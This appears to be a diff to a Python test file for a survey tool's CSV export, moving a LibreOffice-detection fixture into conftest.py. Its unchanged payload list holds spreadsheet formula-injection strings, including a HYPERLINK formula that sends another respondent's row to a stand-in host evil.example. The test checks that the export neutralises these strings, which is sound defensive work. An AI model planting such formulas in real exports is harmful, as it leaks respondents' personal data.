@@ -6,20 +6,17 @@ are neutralised like its values.
 Before, the comma CSV left ``a;=1+41;b`` unquoted: split on ";", LibreOffice computed 42, and a
 ``=HYPERLINK(...)`` built the same way could carry another respondent's row to a web address.
 `make test` installs Debian's libreoffice-calc-nogui; without it this test is skipped, unless
-SURVEY_REQUIRE_OFFICE=1 (CI) makes that a failure.
+SURVEY_REQUIRE_OFFICE=1 (CI) makes that a failure (the ``office`` fixture, tests/web/conftest.py).
 """
 from __future__ import annotations
 
 import datetime as dt
-import os
-import shutil
 import subprocess
 import uuid
 from pathlib import Path
 
 import openpyxl
 import pyreadstat
-import pytest
 
 from survey.questionnaire import load_questionnaire_text
 from survey.store.models import Response
@@ -28,7 +25,6 @@ from survey.store.questionnaires import import_questionnaire
 from survey.store.responses import _version_rows
 from tests.staff_helpers import logged_in
 
-SOFFICE = shutil.which("soffice")
 PAYLOADS = [
     "a;=1+41;b", "a,=1+41,b", '=HYPERLINK(CHAR(104)&"ttps://evil.example/?"&A2;"Hilfe")', "\uff1d1+1",
     "+1+1", "-1+1", "@SUM(1)", "x\t=1+1", "x|=1+1", "x, -2+3", "x; @A1",
@@ -63,15 +59,6 @@ sections:
     questions:
       - {{code: remark, type: text, label: {{de: "@Bemerkung"}}}}
 """
-
-
-@pytest.fixture()
-def office() -> str:
-    if SOFFICE is None:
-        if os.environ.get("SURVEY_REQUIRE_OFFICE") == "1":
-            pytest.fail("LibreOffice is not installed (make test installs it: apt-get install libreoffice-calc-nogui)")
-        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
-    return SOFFICE
 
 
 def _store_responses(db_session_factory) -> None:
